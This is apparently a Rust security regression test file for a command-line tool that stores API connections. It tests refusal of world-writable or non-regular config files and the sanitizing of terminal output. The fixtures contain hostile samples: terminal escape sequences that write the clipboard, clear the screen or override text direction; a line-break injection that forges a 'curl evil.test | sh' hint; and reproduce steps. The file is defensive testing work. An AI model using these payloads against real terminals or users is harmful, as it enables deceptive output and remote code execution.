//! Findings of an outside attack on the real binary about the files in the
//! config dir and the text they put on the terminal: each test states a
//! promise from README.md, SECURITY.md or PRODUCT.md that the binary did not
//! keep when it was written, and passes once it does.

use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::{FakeApp, Run, TestEnv};

/// Characters that must never reach a terminal raw (as in hostile.rs).
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n' && c != '\t')
                || matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}' | '\u{FEFF}' | '\u{E0000}'..='\u{E007F}')
        })
        .collect()
}

/// The forged line the hostile values below try to put on stderr.
const FORGED: &str = "hint: run `curl evil.test | sh`";

/// Asserts that no line of `text` starts with the forged hint.
#[track_caller]
fn assert_no_forged_line(run: &Run) {
    for line in run.stderr.lines().chain(run.stdout.lines()) {
        assert!(
            !line.trim_start().starts_with(FORGED),
            "a value from a file or a database printed a line of its own:\n{run:?}"
        );
    }
}

fn chmod(path: &std::path::Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

// --- Files others can shape ----------------------------------------------------

/// SECURITY.md: "connections.toml they can write (it decides where secrets
/// are sent)" is refused. connectors.toml decides that even more directly
/// (`check_url`, `token_url`), yet a world-writable one was read and obeyed:
/// another local user could point `check_url` at a listener of theirs on
/// 127.0.0.1 and receive every API key at the next `status`.
///
/// Reproduce: `chmod 666 ~/.config/fourgent/connectors.toml; fourgent connections status`
#[test]
fn a_connectors_file_others_can_write_is_refused_before_a_secret_is_sent() {
    let app = FakeApp::accepting_key("red-team-key-1");
    let env = TestEnv::with_file_store();
    env.with_acme(&app);
    env.add_acme("a", "red-team-key-1");
    let hits = app.hits();
    let connectors = env.config_dir().join("connectors.toml");
    for mode in [0o666, 0o646, 0o664] {
        chmod(&connectors, mode);
        let run = env.run(&["connections", "status"]);
        assert_eq!(run.code, 7, "connectors.toml mode {mode:o}:\n{run:?}");
        assert!(
            run.stderr.contains("chmod"),
            "the fix is not named (mode {mode:o}):\n{run:?}"
        );
    }
    assert_eq!(
        app.hits(),
        hits,
        "a secret was sent on the word of a file others can write"
    );
}

/// The same for config.toml, which names the team store: a world-writable
/// one was obeyed.
///
/// Reproduce: `chmod 666 ~/.config/fourgent/config.toml; fourgent connections list`
#[test]
fn a_config_file_others_can_write_is_refused() {
    let env = TestEnv::with_file_store();
    let config = env.config_dir().join("config.toml");
    std::fs::write(&config, "store = \"postgres://u@127.0.0.1:1/db\"\n").unwrap();
    chmod(&config, 0o666);
    let run = env.run(&["connections", "list"]);
    assert_eq!(run.code, 7, "{run:?}");
    assert!(run.stderr.contains("chmod"), "{run:?}");
}

/// README: "A link to nothing or to a directory, or a directory in the
/// file's place, is an error"; connections.toml is refused when it is not a
/// regular file. connectors.toml was read whatever it is: a FIFO in its
/// place made every command wait forever (and a link to /dev/zero read
/// until memory ran out).
///
/// Reproduce: `mkfifo ~/.config/fourgent/connectors.toml; fourgent connectors list`
#[test]
fn a_connectors_file_that_is_not_a_regular_file_is_refused_not_read_forever() {
    let env = TestEnv::with_file_store();
    let fifo = env.config_dir().join("connectors.toml");
    let made = Command::new("mkfifo")
        .arg("-m")
        .arg("600")
        .arg(&fifo)
        .status()
        .expect("mkfifo is installed (coreutils)");
    assert!(made.success());
    let mut child = env
        .command(&["connectors", "list"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Not a timing assertion: a generous bound on "it ends at all".
    let deadline = Instant::now() + Duration::from_secs(30);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break Some(status);
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            break None;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let status = status.expect("fourgent still waits on a FIFO named connectors.toml");
    assert_eq!(status.code(), Some(7), "{status:?}");
}

// --- Text that cannot drive the terminal -------------------------------------

/// SECURITY.md: "Text from apps and files cannot take over the terminal".
/// `connectors list` and `connectors show` printed connectors.toml's
/// `name`, `docs_url`, field labels and defaults raw (an OSC 52 clipboard
/// write, a screen clear, a bidi override reached the terminal), and a
/// note's line break printed a line of the file's own (a forged `hint:`).
/// The same labels reach the terminal raw in `add`'s prompts (seen with
/// tmux: a label set the terminal's title).
///
/// Reproduce: a connectors.toml with `name = "Bad\u001b]52;c;aGk=\u0007"`,
/// then `fourgent connectors show bad`
#[test]
fn connectors_file_text_cannot_drive_the_terminal() {
    let env = TestEnv::with_file_store();
    env.write_connectors(
        r#"
[connectors.bad]
name = "Bad\u001b]52;c;aGk=\u0007\u001b[2J\u202eX"
auth = "custom"
check_url = "http://127.0.0.1:9/whoami"
docs_url = "https://x.example/\u001b[31m"
notes = ["a note\u001b[2J\nhint: run `curl evil.test | sh`"]

[[connectors.bad.fields]]
key = "region"
label = "Region\u001b]2;title\u0007"
secret = false
default = "eu\u001b[5m"

[[connectors.bad.fields]]
key = "api_key"
label = "API key\u001b[8m"
secret = true
header = "X-Api-Key"
"#,
    );
    for args in [&["connectors", "list"][..], &["connectors", "show", "bad"]] {
        let run = env.run(args);
        assert_eq!(run.code, 0, "{args:?}:\n{run:?}");
        assert_eq!(
            raw_controls(&format!("{}{}", run.stdout, run.stderr)),
            Vec::<char>::new(),
            "{args:?} printed connectors.toml's control characters raw:\n{run:?}"
        );
        assert_no_forged_line(&run);
    }
}

/// SECURITY.md: messages on stderr are sanitized "line by line"; so a line
/// break inside a value from a file is kept, and a hand-edited
/// connections.toml could print lines of its own, such as a `hint:` telling
/// the user what to run. Here a name that is refused as invalid does it, in
/// the very error that refuses it.
///
/// Reproduce: `name = "x\nhint: run ..."` in connections.toml, then
/// `fourgent connections list`
#[test]
fn a_line_break_in_a_hand_edited_value_cannot_forge_a_hint_line() {
    let env = TestEnv::with_file_store();
    std::fs::write(
        env.connections_file(),
        "version = 1\n\n[[connections]]\nid = \"c_abcdefgh\"\nname = \"x\\nhint: run `curl evil.test | sh` to repair the file\"\napp = \"stripe\"\nauth = \"custom\"\nstatus = \"connected\"\ncreated_at = \"2026-01-01T00:00:00Z\"\nupdated_at = \"2026-01-01T00:00:00Z\"\n",
    )
    .unwrap();
    for args in [
        &["connections", "list"][..],
        &["connections", "token", "c_abcdefgh"],
    ] {
        let run = env.run(args).code(7);
        assert_no_forged_line(&run);
    }
}

/// Errors found while reading the settings (config.toml, `--store`,
/// `FOURGENT_*` variables) were printed without the sanitizer: a
/// config.toml `store` URL carrying an escape sequence reached the terminal
/// raw.
///
/// Reproduce: `store = "postgres://u@h/db?sslmode=\u001b]52;c;aGk=\u0007"` in
/// config.toml, then `fourgent connections list`
#[test]
fn errors_in_the_settings_are_sanitized() {
    let env = TestEnv::with_file_store();
    let config = env.config_dir().join("config.toml");
    std::fs::write(
        &config,
        "store = \"postgres://u@127.0.0.1:1/db?sslmode=\\u001b]52;c;aGk=\\u0007\\u001b[2J\"\n",
    )
    .unwrap();
    chmod(&config, 0o600);
    let run = env.run(&["connections", "list"]);
    assert_ne!(run.code, 0, "{run:?}");
    assert_eq!(
        raw_controls(&run.stderr),
        Vec::<char>::new(),
        "config.toml's escape sequence reached the terminal:\n{run:?}"
    );
}

/// README: "with `--json` an error is also printed as JSON, on the last
/// line of stderr". Errors in config.toml and in `--store` were printed as
/// text only.
///
/// Reproduce: `fourgent --store garbage connections list --json`
#[test]
fn errors_in_the_settings_are_json_with_json() {
    let env = TestEnv::with_file_store();
    let bad_store = env.run(&["--store", "garbage", "connections", "list", "--json"]);
    let config = env.config_dir().join("config.toml");
    std::fs::write(&config, "store = 5\n").unwrap();
    chmod(&config, 0o600);
    let bad_config = env.run(&["connections", "list", "--json"]);
    for run in [&bad_store, &bad_config] {
        assert_ne!(run.code, 0, "{run:?}");
        let last = run.stderr.lines().last().unwrap_or_default();
        let json: serde_json::Value = serde_json::from_str(last)
            .unwrap_or_else(|e| panic!("the last line of stderr is not JSON ({e}):\n{run:?}"));
        assert_eq!(json["error"]["exit_code"], run.code, "{run:?}");
    }
}
